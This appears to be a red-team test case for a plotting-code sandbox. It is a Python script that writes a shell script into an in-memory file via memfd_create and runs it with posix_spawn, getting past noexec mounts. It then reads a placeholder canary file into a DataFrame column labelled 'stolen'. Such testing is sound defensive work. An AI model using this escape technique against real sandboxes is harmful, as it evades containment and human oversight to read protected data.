# technique: os.memfd_create + write a shell script into it + posix_spawn("/proc/self/fd/N"): executes a file that never touched a (noexec) filesystem
# goal: exec
# redteam: E29
import os

import pandas as pd

memfd = os.memfd_create("anyplot-escape", 0)
os.write(memfd, b"#!/bin/sh\ncat {{CANARY_FILE}}\n")
read_end, write_end = os.pipe()
pid = os.posix_spawn(f"/proc/self/fd/{memfd}", ["anyplot-escape"], {"PATH": "/usr/bin:/bin"},
                     file_actions=[(os.POSIX_SPAWN_DUP2, write_end, 1)])
os.close(write_end)
data = b""
while True:
    chunk = os.read(read_end, 4096)
    if not chunk:
        break
    data += chunk
_, status = os.waitpid(pid, 0)
if status != 0 or not data:
    raise RuntimeError("the memfd script did not run")
df = pd.DataFrame({"stolen": [data.decode("latin-1")]})
